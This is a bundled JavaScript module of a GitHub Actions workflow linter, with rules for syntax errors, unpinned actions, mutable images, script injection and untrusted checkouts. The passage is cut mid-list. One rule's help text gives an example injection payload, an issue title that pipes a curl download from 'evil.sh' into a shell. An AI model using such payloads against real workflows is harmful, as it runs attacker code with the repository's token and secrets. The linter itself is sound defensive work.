export const id = 99;
export const ids = [99];
export const modules = {

/***/ 8099:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  DEFAULT_CONFIG: () => (/* binding */ DEFAULT_CONFIG),
  DEFAULT_PATHS: () => (/* binding */ DEFAULT_PATHS),
  DEFAULT_REQUIRED_CHECKS: () => (/* binding */ DEFAULT_REQUIRED_CHECKS),
  VALIDATION_REPORT_SCHEMA: () => (/* binding */ VALIDATION_REPORT_SCHEMA),
  runValidate: () => (/* binding */ runValidate)
});

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(6760);
// EXTERNAL MODULE: ./.build/src/core/errors.js
var core_errors = __webpack_require__(6512);
// EXTERNAL MODULE: ./.build/src/core/constants.js
var constants = __webpack_require__(906);
// EXTERNAL MODULE: ./.build/src/core/inputs.js
var inputs = __webpack_require__(5146);
// EXTERNAL MODULE: ./.build/src/core/files.js
var core_files = __webpack_require__(3168);
;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/internal/parser-messages.js
function familyOf(problem) {
    if (problem.stage === 'read')
        return 'read';
    const m = problem.message;
    if (/^Unrecognized named-value/.test(m))
        return 'context';
    if (/^Unrecognized function/.test(m))
        return 'function';
    if (/^(Unexpected end of expression|Unexpected symbol|Exceeded max expression|Too (few|many) parameters|Even number of parameters|The expression is not closed|The directive '.*' is not allowed)/.test(m)) {
        return 'expression';
    }
    if (/depends on unknown job|creates a cycle in the dependency graph|at least one job with no dependencies/.test(m))
        return 'needs';
    return 'syntax';
}
/** A rule that reports the parser's messages of one family, at the parser's positions. */
function parserMessageRule(meta, family, rewrite = (m) => m) {
    return {
        ...meta,
        create(context) {
            return {
                file(file) {
                    const echoes = echoesOf(file.problems);
                    for (const p of file.problems) {
                        if (familyOf(p) !== family || echoes.has(p))
                            continue;
                        context.report(file.source, p, rewrite(p.message));
                    }
                }
            };
        }
    };
}
/**
 * The converter re-parses an `if: ${{ … }}` that the reader already refused, and then complains
 * about the `${{` itself: an echo of the first message at the same place, not a second fault.
 * Places counted once, so that a file of many messages costs linear time.
 */
function echoesOf(all) {
    const isEcho = (p) => /^Unexpected symbol: '\$\{\{'/.test(p.message);
    const place = (p) => `${p.at.line}:${p.at.column}`;
    const count = new Map();
    for (const p of all)
        if (isEcho(p))
            count.set(place(p), 0);
    if (count.size === 0)
        return new Set();
    for (const p of all)
        if (count.has(place(p)))
            count.set(place(p), count.get(place(p)) + 1);
    return new Set(all.filter((p) => isEcho(p) && count.get(place(p)) > 1));
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unreadable-file.js
/** PG100 unreadable-file: a file that cannot be read as a workflow at all, or is not one. */

/* harmony default export */ const unreadable_file = (parserMessageRule({
    id: 'PG100',
    name: 'unreadable-file',
    level: 'error',
    description: 'A file that cannot be read as YAML text (larger than GitHub\'s 500 KB, nested too deeply, binary, not UTF-8, an alias bomb), or is not a workflow or action metadata at all.',
    help: 'GitHub reads workflows as UTF-8 YAML. A file that is binary, not UTF-8, larger than 512,000 bytes (GitHub runs no workflow file over 500 KB), nested deeper than 64 levels, of more than 100,000 YAML nodes or 10,000 aliases, or whose aliases expand to more than 200,000 nodes is refused before parsing, and a workflow of more than 10,000 jobs before it is analysed, so that it costs bounded time and memory; the other files are still checked. A file that parses as YAML but is not a workflow (several documents, such as a Kubernetes manifest; a top level that is not a mapping; neither `on:` nor `jobs:`, such as `dependabot.yml`), or not action metadata (none of `runs:`, `name:`, `inputs:` …), gets this one line instead of the parser\'s many messages. Fix the file, or leave it out of `paths` (or `ignore:` in the config).'
}, 'read'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/workflow-syntax.js
/** PG101 workflow-syntax: YAML and schema errors, as GitHub's own parser reports them. */

/* harmony default export */ const workflow_syntax = (parserMessageRule({
    id: 'PG101',
    name: 'workflow-syntax',
    level: 'error',
    description: "YAML and schema errors in a workflow or action.yml, with GitHub's own parser messages.",
    help: "The file is checked by `@actions/workflow-parser`, the parser GitHub's editor tooling uses, against the workflow or action schema: unknown keys, missing required keys, values of the wrong type, duplicate keys, invalid cron schedules and invalid YAML. The message is the parser's own; GitHub refuses such a workflow when it runs."
}, 'syntax'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/expression-syntax.js
/** PG102 expression-syntax: a `${{ }}` expression that does not parse. */

/* harmony default export */ const expression_syntax = (parserMessageRule({
    id: 'PG102',
    name: 'expression-syntax',
    level: 'error',
    description: 'An expression that does not parse: unbalanced parentheses, a stray symbol, an unclosed `${{`, wrong argument counts.',
    help: "Every `${{ }}` expression (and every `if:` condition) is parsed with `@actions/expressions`, GitHub's expression parser. An expression that does not parse fails the job when the runner evaluates it, often only on the branch that reaches it."
}, 'expression'));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-context.js
/** PG103 unknown-context: a context name that does not exist, or is not available where it is used. */

/* harmony default export */ const unknown_context = (parserMessageRule({
    id: 'PG103',
    name: 'unknown-context',
    level: 'error',
    description: 'A context that does not exist, or is not available at that key (e.g. `steps` in `runs-on`).',
    help: 'Each workflow key allows its own set of contexts (`github`, `env`, `vars`, `secrets`, `matrix`, `needs`, `steps`, `inputs`, …): `steps` is not available in `runs-on`, `secrets` not in `if:`. A name outside that set is a typo or a context used too early; GitHub fails the workflow on it.'
}, 'context', (m) => m.replace(/^Unrecognized named-value: '(.*)'$/, "Unrecognized named-value: '$1' (not a context available here)")));

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/unknown-function.js
/** PG104 unknown-function: a function GitHub's expressions do not have. */

/* harmony default export */ const unknown_function = (parserMessageRule({
    id: 'PG104',
    name: 'unknown-function',
    level: 'error',
    description: 'A function that GitHub expressions do not provide (e.g. `toJson` is fine, `toYaml` is not).',
    help: 'Expressions have a fixed set of functions: `contains`, `startsWith`, `endsWith`, `format`, `join`, `toJSON`, `fromJSON`, `hashFiles`, `success`, `always`, `cancelled`, `failure` and `case`. Any other name fails the workflow.'
}, 'function'));

// EXTERNAL MODULE: ./.build/src/core/workflows/model.js
var model = __webpack_require__(7623);
;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-unknown-job.js

const rule = {
    id: 'PG110',
    name: 'needs-unknown-job',
    level: 'error',
    description: '`needs:` names a job that the workflow does not define.',
    help: 'A job can only wait for jobs of the same workflow, by their ids (the keys under `jobs:`, not their `name:`). GitHub refuses the whole workflow when one `needs:` entry is unknown. Job ids are case-insensitive.',
    create(context) {
        return {
            jobPre(job, workflow) {
                for (const need of job.needs) {
                    if (workflow.jobsByLowerId.has(need.value.toLowerCase()))
                        continue;
                    const byName = (0,model/* jobsByName */.ZB)(workflow).get(need.value);
                    const hint = byName ? ` ("${need.value}" is the name of job "${byName.id.value}"; needs takes job ids)` : (0,model/* suggestJob */.GM)(workflow, need.value);
                    context.report(workflow.file, need, `job "${job.id.value}" needs unknown job "${need.value}"${hint}`);
                }
            }
        };
    }
};
/* harmony default export */ const needs_unknown_job = (rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-cycle.js
/** Most jobs a cycle's message spells out (a cycle may run through thousands). */
const CYCLE_SHOWN = 10;
const needs_cycle_rule = {
    id: 'PG111',
    name: 'needs-cycle',
    level: 'error',
    description: 'Jobs whose `needs:` form a cycle, so that none of them can ever start.',
    help: 'GitHub runs a job once every job in its `needs:` has finished; when jobs need each other in a cycle, the workflow is refused. Break the cycle by removing one of the `needs:` entries named in the message.',
    create(context) {
        return {
            workflowPost(workflow) {
                // An iterative depth-first search (a chain of thousands of jobs would overflow the call
                // stack), each job's place on the stack kept, so that a cycle costs no search: linear.
                const done = new Set();
                const onStack = new Map();
                const stack = [];
                const reported = new Set();
                for (const root of workflow.jobs) {
                    if (done.has(root))
                        continue;
                    onStack.set(root, 0);
                    stack.push({ job: root, next: 0 });
                    while (stack.length) {
                        const frame = stack[stack.length - 1];
                        const needs = frame.job.needs;
                        if (frame.next >= needs.length) {
                            stack.pop();
                            onStack.delete(frame.job);
                            done.add(frame.job);
                            continue;
                        }
                        const need = needs[frame.next++];
                        const next = workflow.jobsByLowerId.get(need.value.toLowerCase());
                        if (!next || done.has(next))
                            continue;
                        const at = onStack.get(next);
                        if (at === undefined) {
                            onStack.set(next, stack.length);
                            stack.push({ job: next, next: 0 });
                            continue;
                        }
                        // A back edge closes the cycle stack[at] → … → this job → next.
                        const key = `${frame.job.id.value}\0${next.id.value}`;
                        if (reported.has(key))
                            continue;
                        reported.add(key);
                        const length = stack.length - at;
                        const shown = stack.slice(at, at + Math.min(length, CYCLE_SHOWN)).map((f) => f.job.id.value);
                        const path = length <= CYCLE_SHOWN ? [...shown, next.id.value].join(' -> ') : `${shown.join(' -> ')} -> … -> ${frame.job.id.value} -> ${next.id.value} (${length} jobs)`;
                        context.report(workflow.file, need, `jobs form a dependency cycle: ${path}`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const needs_cycle = (needs_cycle_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rule.js
/** Quotes a list of names for a message: `"a", "b"`, or `none`. */
function nameList(names, most = NAME_LIST_MOST) {
    const list = [];
    let count = 0;
    for (const n of names)
        if (count++ < most)
            list.push(`"${n}"`);
    if (count > most)
        list.push(`… ${count - most} more`);
    return list.length ? list.join(', ') : 'none';
}
/** Most names a message lists (a job may need thousands; a finding stays one readable line). */
const NAME_LIST_MOST = 10;

// EXTERNAL MODULE: ./.build/src/core/suggest.js
var suggest = __webpack_require__(6161);
// EXTERNAL MODULE: ./.build/src/core/workflows/expressions.js
var expressions = __webpack_require__(4517);
;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/step-outputs-reference.js
/** PG112 step-outputs-reference: `steps.X` where no step `X` runs before, in that job. */



const step_outputs_reference_rule = {
    id: 'PG112',
    name: 'step-outputs-reference',
    level: 'error',
    description: '`steps.X.outputs.Y` (or `steps.X.outcome`) where no step with id `X` runs before it in the same job.',
    help: 'The `steps` context holds only the steps of the current job (or composite action) that have already run, by their `id:`. A reference to a step that does not exist, or that runs later, evaluates to an empty string: the workflow runs on with a silently empty value. Give the step an `id:` and refer to it only after it.',
    create(context) {
        /** `sites` may name the steps of `all` before index `upTo` (all of them for outputs). */
        const check = (file, sites, all, upTo, owner) => {
            const known = new Set(all.slice(0, upTo).flatMap((s) => (s.id ? [s.id.value] : [])));
            for (const site of sites) {
                for (const chain of (0,expressions/* contextChains */.A)(site)) {
                    const [ctx, step] = chain.segments;
                    if (ctx.name !== 'steps' || !step || step.name === '*' || known.has(step.name))
                        continue;
                    const at = all.findIndex((s) => s.id?.value === step.name);
                    let message;
                    if (at === upTo)
                        message = `step "${step.name}" refers to its own outputs, which do not exist until it has run`;
                    else if (at > upTo)
                        message = `step "${step.name}" runs after this step in ${owner}: its outputs are empty here`;
                    else {
                        const ids = all.flatMap((s) => (s.id ? [s.id.value] : []));
                        message = `no step with id "${step.name}" before this point in ${owner} (step ids: ${nameList(known)})${(0,suggest/* didYouMean */.a)(step.name, ids)}`;
                    }
                    context.report(file, step, message);
                }
            }
        };
        return {
            jobPre(job, workflow) {
                const owner = `job "${job.id.value}"`;
                job.steps.forEach((step, i) => check(workflow.file, step.expressions, job.steps, i, owner));
                check(workflow.file, job.outputExpressions, job.steps, job.steps.length, owner);
            },
            actionPre(action) {
                action.steps.forEach((step, i) => check(action.file, step.expressions, action.steps, i, 'the composite action'));
                const outputs = [...action.outputs.values()].flatMap((o) => (0,expressions/* expressionSites */.T)(o.value));
                check(action.file, outputs, action.steps, action.steps.length, 'the composite action');
            }
        };
    }
};
/* harmony default export */ const step_outputs_reference = (step_outputs_reference_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-outputs-reference.js
/** PG113 needs-outputs-reference: `needs.X.outputs.Y` where X is not needed or has no output Y. */




const needs_outputs_reference_rule = {
    id: 'PG113',
    name: 'needs-outputs-reference',
    level: 'error',
    description: '`needs.X.…` where job `X` is not in this job\'s `needs:`, or `needs.X.outputs.Y` where `X` declares no output `Y`.',
    help: "The `needs` context holds only the jobs listed in the job's own `needs:` (not their dependencies), and of each only the outputs it declares under `outputs:` (for a reusable workflow, its `on.workflow_call.outputs`). Anything else evaluates to an empty string, silently: a deploy then runs with an empty version or report. Add the job to `needs:`, or declare the output.",
    create(context) {
        const outputsOf = (target) => {
            if (!target.uses)
                return [...target.outputs.keys()];
            const called = context.project.local(target.uses.value);
            // A remote reusable workflow's outputs cannot be known offline.
            return called?.kind === 'workflow' && called.workflowCall ? [...called.workflowCall.outputs.keys()] : undefined;
        };
        // Lower-case output names of each job referenced, built once: a job may be referenced thousands of times.
        const declaredOf = new Map();
        const declared = (target, outputs) => {
            let set = declaredOf.get(target);
            if (!set)
                declaredOf.set(target, (set = new Set(outputs.map((o) => o.toLowerCase()))));
            return set;
        };
        return {
            jobPre(job, workflow) {
                const needed = new Map(job.needs.map((n) => [n.value.toLowerCase(), n.value]));
                const sites = [...job.expressions, ...job.outputExpressions, ...job.steps.flatMap((s) => s.expressions)];
                for (const site of sites) {
                    for (const chain of (0,expressions/* contextChains */.A)(site)) {
                        const [ctx, target, section, output] = chain.segments;
                        if (ctx.name !== 'needs' || !target || target.name === '*')
                            continue;
                        if (!needed.has(target.name.toLowerCase())) {
                            const exists = workflow.jobsByLowerId.has(target.name.toLowerCase());
                            const why = exists ? `job "${target.name}" is not in the needs of job "${job.id.value}"` : `no job "${target.name}" in this workflow`;
                            context.report(workflow.file, target, `${why} (needs: ${nameList(needed.values())})${exists ? '' : (0,model/* suggestJob */.GM)(workflow, target.name)}`);
                            continue;
                        }
                        if (section?.name !== 'outputs' || !output || output.name === '*')
                            continue;
                        const targetJob = workflow.jobsByLowerId.get(target.name.toLowerCase());
                        if (!targetJob)
                            continue;
                        const outputs = outputsOf(targetJob);
                        if (!outputs || declared(targetJob, outputs).has(output.name.toLowerCase()))
                            continue;
                        context.report(workflow.file, output, `job "${targetJob.id.value}" declares no output "${output.name}" (outputs: ${nameList(outputs)})${(0,suggest/* didYouMean */.a)(output.name, outputs)}`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const needs_outputs_reference = (needs_outputs_reference_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/local-action-inputs.js
/** PG114 local-action-inputs: `with:` of a local action against the inputs its action.yml declares. */


const local_action_inputs_rule = {
    id: 'PG114',
    name: 'local-action-inputs',
    level: 'error',
    description: "`with:` keys that a local action's `action.yml` does not declare, and required inputs (without a default) left out.",
    help: 'For `uses: ./path/to/action`, the inputs are read from `path/to/action/action.yml` in the workspace. An undeclared key is ignored by the runner (with only a warning in the log), so a misspelt input silently takes its default; a required input without a default that is not given is usually a bug. Input names are case-insensitive.',
    create(context) {
        return {
            step(step, _owner, file) {
                const uses = step.uses?.value;
                if (!uses?.startsWith('./'))
                    return;
                const action = context.project.local(uses);
                if (action?.kind !== 'action')
                    return;
                const declared = new Map([...action.inputs.keys()].map((k) => [k.toLowerCase(), k]));
                for (const [key, entry] of step.with) {
                    if (declared.has(key.toLowerCase()))
                        continue;
                    context.report(file.file, entry.key, `input "${key}" is not declared by ${action.file.path} (inputs: ${nameList(declared.values())})${(0,suggest/* didYouMean */.a)(key, declared.values())}`);
                }
                const given = new Set([...step.with.keys()].map((k) => k.toLowerCase()));
                const missing = [...action.inputs].filter(([name, input]) => input.required && !input.hasDefault && !given.has(name.toLowerCase())).map(([name]) => name);
                if (missing.length) {
                    context.report(file.file, step.withKey ?? step.uses, `required input${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${action.file.path} not given`);
                }
            }
        };
    }
};
/* harmony default export */ const local_action_inputs = (local_action_inputs_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/reusable-workflow-call.js
/** PG115 reusable-workflow-call: inputs and secrets passed to a local reusable workflow. */


const reusable_workflow_call_rule = {
    id: 'PG115',
    name: 'reusable-workflow-call',
    level: 'error',
    description: 'A call of a local reusable workflow with inputs or secrets its `on.workflow_call` does not declare, required ones missing, or no `workflow_call` trigger at all.',
    help: 'For `uses: ./.github/workflows/x.yml`, GitHub checks `with:` and `secrets:` against the `on.workflow_call` of the called workflow when the run starts, and refuses the run when an input or secret is unknown or a required one (without a default) is missing. This finds it before the push. `secrets: inherit` passes every secret.',
    create(context) {
        const compare = (file, what, given, declared, called, anchor) => {
            const names = new Map([...declared.keys()].map((k) => [k.toLowerCase(), k]));
            for (const [key, entry] of given) {
                if (names.has(key.toLowerCase()))
                    continue;
                context.report(file, entry.key, `${what} "${key}" is not declared by on.workflow_call of ${called} (${what}s: ${nameList(names.values())})${(0,suggest/* didYouMean */.a)(key, names.values())}`);
            }
            const passed = new Set([...given.keys()].map((k) => k.toLowerCase()));
            const missing = [...declared]
                .filter(([name, entry]) => {
                if (passed.has(name.toLowerCase()))
                    return false;
                const spec = entry.value;
                const required = spec.find?.('required')?.toString().toLowerCase() === 'true';
                return required && !spec.find?.('default');
            })
                .map(([name]) => name);
            if (missing.length)
                context.report(file, anchor, `required ${what}${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${called} not given`);
        };
        return {
            jobPre(job, workflow) {
                const uses = job.uses;
                if (!uses?.value.startsWith('./'))
                    return;
                const called = context.project.local(uses.value);
                if (called?.kind !== 'workflow')
                    return;
                const call = called.workflowCall;
                if (!call) {
                    context.report(workflow.file, uses, `${called.file.path} has no on.workflow_call trigger: it cannot be called as a reusable workflow`);
                    return;
                }
                compare(workflow.file, 'input', job.with, call.inputs, called.file.path, job.withKey ?? uses);
                if (job.secrets !== 'inherit')
                    compare(workflow.file, 'secret', job.secrets, call.secrets, called.file.path, job.secretsKey ?? uses);
            }
        };
    }
};
/* harmony default export */ const reusable_workflow_call = (reusable_workflow_call_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/index.js











const family = {
    name: 'syntax',
    title: 'Syntax and types',
    description: 'What GitHub would refuse or misread: YAML and schema, expressions and their contexts, job graph, inputs of local actions and reusable workflows.',
    rules: [
        unreadable_file,
        workflow_syntax,
        expression_syntax,
        unknown_context,
        unknown_function,
        needs_unknown_job,
        needs_cycle,
        step_outputs_reference,
        needs_outputs_reference,
        local_action_inputs,
        reusable_workflow_call
    ]
};
/* harmony default export */ const syntax = (family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/index.js
const scripts_family = {
    name: 'scripts',
    title: 'Scripts',
    description: 'The shell scripts of `run:` steps.',
    rules: []
};
/* harmony default export */ const scripts = (scripts_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/unpinned-action.js
const SHA = /^[0-9a-f]{40}$/;
const DIGEST = /@sha256:[0-9a-f]{64}$/;
/** Whether `allow.owners` or `allow.actions` (`owner/repo`, `owner/*`, `owner/repo/path`) trusts this action. */
function allowed(action, settings) {
    const lower = action.toLowerCase();
    const owner = lower.split('/')[0];
    if (settings.allowOwners.some((o) => o.toLowerCase() === owner))
        return true;
    return settings.allowActions.some((pattern) => {
        const p = pattern.toLowerCase().replace(/@.*$/, '');
        const re = new RegExp(`^${p.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[^/]*')}(?:/.*)?$`);
        return re.test(lower);
    });
}
const unpinned_action_rule = {
    id: 'PG201',
    name: 'unpinned-action',
    level: 'warning',
    description: 'A `uses:` of another repository not pinned to a full 40-character commit SHA, or a `docker://` image not pinned by `@sha256:` digest.',
    help: 'A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action\'s repository, and the next run executes the new code with your token and secrets (as in the tj-actions/changed-files compromise). Pin `owner/repo@<40-hex sha> # v4.2.2` and let Dependabot or Renovate update the SHA; pin `docker://image@sha256:<digest>`. Local actions (`./…`) are part of the repository and exempt. Every owner is third-party here, `actions/*` and `github/*` included; trust owners or actions in `.github/phase-gates.yml` with `allow: { owners: [acme], actions: [acme/deploy] }`.',
    create(context) {
        const check = (file, uses) => {
            const value = uses?.value.trim();
            if (!uses || !value || value.startsWith('./') || value.includes('${{'))
                return;
            if (value.startsWith('docker://')) {
                const image = value.slice('docker://'.length);
                if (DIGEST.test(image) || allowed(image, context.settings))
                    return;
                context.report(file, uses, `image "${value}" is not pinned by digest; use docker://${image.replace(/@.*$/, '').replace(/:[^/:]*$/, '')}@sha256:<digest>`);
                return;
            }
            const at = value.lastIndexOf('@');
            const action = at < 0 ? value : value.slice(0, at);
            const ref = at < 0 ? '' : value.slice(at + 1);
            if (SHA.test(ref) || allowed(action, context.settings))
                return;
            const pinned = ref ? `${action}@<40-hex commit sha> # ${ref}` : `${action}@<40-hex commit sha>`;
            context.report(file, uses, `"${value}" is not pinned to a full commit SHA${ref ? ` ("${ref}" can be moved)` : ''}; use ${pinned}`);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, job.uses);
            },
            step(step, _owner, file) {
                check(file.file, step.uses);
            }
        };
    }
};
/* harmony default export */ const unpinned_action = (unpinned_action_rule);

// EXTERNAL MODULE: ./node_modules/@actions/workflow-parser/dist/index.js
var dist = __webpack_require__(2657);
;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/mutable-image.js
/** PG205 mutable-image: container, service and `docker://` images with `:latest` or no tag. */

/** The image of `container:` (a string, or a mapping with `image:`) or of a service. */
function imageOf(token) {
    if (!token)
        return undefined;
    if ((0,dist/* isString */.Kg)(token))
        return token;
    if (!(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === 'image')
            return pair.value;
    return undefined;
}
/** What is mutable about an image reference: `:latest`, no tag, or nothing (a version tag or a digest). */
function mutability(image) {
    if (!image || image.includes('${{') || image.includes('@'))
        return undefined;
    const last = image.split('/').pop() ?? '';
    const colon = last.indexOf(':');
    if (colon < 0)
        return 'untagged';
    return last.slice(colon + 1).toLowerCase() === 'latest' ? 'latest' : undefined;
}
const mutable_image_rule = {
    id: 'PG205',
    name: 'mutable-image',
    level: 'warning',
    description: 'A `container:`, `services:` or `docker://` image with the `:latest` tag or no tag at all.',
    help: 'An image without a tag means `:latest`, which points to whatever was pushed last: the job changes under you between two runs, and whoever can push the image controls what runs. Use a version tag (`postgres:16.4`) or, better, a digest (`postgres@sha256:…`, which PG201 asks for `docker://` steps).',
    create(context) {
        const check = (file, token, what) => {
            if (!token || !(0,dist/* isString */.Kg)(token))
                return;
            const image = token.value.trim().replace(/^docker:\/\//, '');
            const kind = mutability(image);
            if (!kind)
                return;
            const node = { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
            const why = kind === 'latest' ? 'uses the mutable tag :latest' : 'has no tag, so it means :latest';
            context.report(file, node, `${what} image "${image}" ${why}; pin a version tag or a digest (@sha256:…)`);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, imageOf(job.container), `container`);
                if (job.services && (0,dist/* isMapping */.pi)(job.services)) {
                    for (const pair of job.services) {
                        const name = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : '';
                        check(workflow.file, imageOf(pair.value), `service "${name}"`);
                    }
                }
            },
            step(step, _owner, file) {
                const uses = step.uses?.value ?? '';
                if (!uses.startsWith('docker://'))
                    return;
                const token = step.token.find('uses');
                check(file.file, token, 'step');
            }
        };
    }
};
/* harmony default export */ const mutable_image = (mutable_image_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/index.js


const supply_chain_family = {
    name: 'supply-chain',
    title: 'Supply chain',
    description: 'What a workflow runs that others wrote: actions and images, their pins and versions.',
    rules: [
        unpinned_action,
        mutable_image
    ]
};
/* harmony default export */ const supply_chain = (supply_chain_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-input-in-script.js
/** PG200 untrusted-input-in-script: attacker-controlled event data expanded in `run:` or github-script's `script:`. */


/**
 * The untrusted inputs of actionlint's expression check and GitHub's security hardening guide:
 * text any user (or fork) controls. `*` is any element of an array.
 */
const UNTRUSTED = [
    'github.event.issue.title',
    'github.event.issue.body',
    'github.event.pull_request.title',
    'github.event.pull_request.body',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.head.label',
    'github.event.pull_request.head.repo.default_branch',
    'github.event.discussion.title',
    'github.event.discussion.body',
    'github.event.comment.body',
    'github.event.review.body',
    'github.event.review_comment.body',
    'github.event.pages.*.page_name',
    'github.event.commits.*.message',
    'github.event.commits.*.author.email',
    'github.event.commits.*.author.name',
    'github.event.head_commit.message',
    'github.event.head_commit.author.email',
    'github.event.head_commit.author.name',
    'github.event.workflow_run.head_branch',
    'github.event.workflow_run.head_commit.message',
    'github.event.workflow_run.head_commit.author.email',
    'github.event.workflow_run.head_commit.author.name',
    'github.event.workflow_run.head_repository.description',
    'github.head_ref'
].map((p) => p.split('.'));
/** The untrusted path a chain reads (as written in the list), if any. */
function untrusted(segments) {
    const names = segments.map((s) => s.name.toLowerCase());
    for (const pattern of UNTRUSTED) {
        if (names.length < pattern.length)
            continue;
        if (pattern.every((p, i) => (p === '*' ? true : names[i] === p)))
            return pattern.join('.');
    }
    return undefined;
}
/** The value of `key` in a step's mapping. */
function untrusted_input_in_script_valueOf(token, key) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
const untrusted_input_in_script_rule = {
    id: 'PG200',
    name: 'untrusted-input-in-script',
    level: 'error',
    description: 'Untrusted event data (titles, bodies, head refs, commit messages, `github.head_ref`, …) expanded with `${{ }}` in `run:` or in `actions/github-script`\'s `script:`.',
    help: 'A `${{ }}` is pasted into the script before the shell (or JavaScript) runs, so an issue title such as `"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets: script injection. Pass the value through `env:` (`env: { TITLE: ${{ github.event.issue.title }} }`) and use it as `"$TITLE"` (or `process.env.TITLE`), where it stays data. The list of untrusted inputs is the one of actionlint and GitHub\'s security hardening guide.',
    create(context) {
        return {
            step(step, _owner, file) {
                const sites = [];
                const run = untrusted_input_in_script_valueOf(step.token, 'run');
                if (run)
                    sites.push({ where: 'run:', token: run });
                if (/^actions\/github-script@/i.test(step.uses?.value ?? '')) {
                    const script = untrusted_input_in_script_valueOf(untrusted_input_in_script_valueOf(step.token, 'with'), 'script');
                    if (script)
                        sites.push({ where: "actions/github-script's script:", token: script });
                }
                for (const { where, token } of sites) {
                    for (const site of (0,expressions/* expressionSites */.T)(token)) {
                        for (const chain of (0,expressions/* contextChains */.A)(site)) {
                            const path = untrusted(chain.segments);
                            if (!path)
                                continue;
                            const shown = chain.segments.map((s) => s.name).join('.');
                            context.report(file.file, chain.segments[0], `"${shown}" is untrusted input (${path}) expanded in ${where}, where it can inject code; pass it through env: and use the variable instead`);
                        }
                    }
                }
            }
        };
    }
};
/* harmony default export */ const untrusted_input_in_script = (untrusted_input_in_script_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-checkout.js
/** PG203 untrusted-checkout: a privileged `pull_request_target` or `workflow_run` job checks out the untrusted head. */


/** Expressions that name the code of the pull request or of the run that triggered `workflow_run`. */
const HEAD = [
    'github.event.pull_request.head.sha',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.merge_commit_sha',
    'github.head_ref',
    'github.event.workflow_run.head_sha',
    'github.event.workflow_run.head_branch'
];
const PRIVILEGED = ['pull_request_target', 'workflow_run'];
const untrusted_checkout_rule = {
    id: 'PG203',
    name: 'untrusted-checkout',
    level: 'error',
    description: 'A `pull_request_target` or `workflow_run` workflow whose job checks out the untrusted head (`actions/checkout` with a `ref:` of the pull request head or `refs/pull/…/merge`).',
    help: '`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a write token, precisely so that they can act on pull requests from forks. Checking out the head of the pull request there and then building, testing or even installing it runs the attacker\'s code with those privileges ("pwn request"). Use `pull_request` for anything that runs the contributed code, and keep the privileged workflow to trusted steps (labelling, commenting on results it downloads as data).',
    create(context) {
        return {
            step(step, owner, file) {
                if (file.kind !== 'workflow' || !('id' in owner))
                    return;
                const trigger = PRIVILEGED.find((t) => file.on.has(t));
                if (!trigger || !/^actions\/checkout@/i.test(step.uses?.value ?? ''))
                    return;
                const ref = step.with.get('ref');
                if (!ref)
                    return;
                let found;
                for (const site of (0,expressions/* expressionSites */.T)(ref.value)) {
                    for (const chain of (0,expressions/* contextChains */.A)(site)) {
                        const path = chain.segments.map((s) => s.name.toLowerCase()).join('.');
                        if (HEAD.some((h) => path === h || path.startsWith(`${h}.`)))
                            found ??= { what: chain.segments.map((s) => s.name).join('.'), at: chain.segments[0] };
                    }
                }
                const text = (0,dist/* isString */.Kg)(ref.value) ? ref.value.value : (0,dist/* isBasicExpression */.hR)(ref.value) ? ref.value.toDisplayString() : '';
                if (!found && /refs\/pull\/[^/]+\/(merge|head)/.test(text)) {
                    const r = ref.value.range;
                    found = { what: 'refs/pull/…', at: { at: r ? { line: r.start.line, column: r.start.column } : ref.key.at } };
                }
                if (!found)
                    return;
                context.report(file.file, found.at, `job "${owner.id.value}" of a ${trigger} workflow checks out the untrusted head (${found.what}) with the base repository's secrets and write token; run contributed code under pull_request instead`);
            }
        };
    }
};
/* harmony default export */ const untrusted_checkout = (untrusted_checkout_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/index.js


const injection_family = {
    name: 'injection',
    title: 'Injection and triggers',
    description: 'Untrusted data reaching code: expressions expanded in scripts, untrusted checkouts under privileged triggers.',
    rules: [
        untrusted_input_in_script,
